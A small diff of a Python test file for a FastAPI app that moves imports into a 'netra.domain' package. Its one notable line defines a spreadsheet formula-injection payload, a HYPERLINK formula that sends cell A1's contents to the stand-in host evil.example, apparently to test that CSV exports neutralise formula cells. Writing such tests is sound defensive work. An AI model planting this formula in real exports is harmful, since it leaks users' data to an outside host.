@@ -12,10 +12,10 @@ from factories import flag, person, post
 from fastapi.testclient import TestClient
 
 from api.app import create_app
-from netra.access import hash_token
-from netra.csvcells import FORMULA_TRIGGERS
-from netra.models import FlagOrigin, Platform, Role, SocialAccount
-from netra.settings import Settings
+from netra.domain.access import hash_token
+from netra.domain.csvcells import FORMULA_TRIGGERS
+from netra.domain.models import FlagOrigin, Platform, Role, SocialAccount
+from netra.domain.settings import Settings
 from netra.store.sqlite import SqliteStore
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
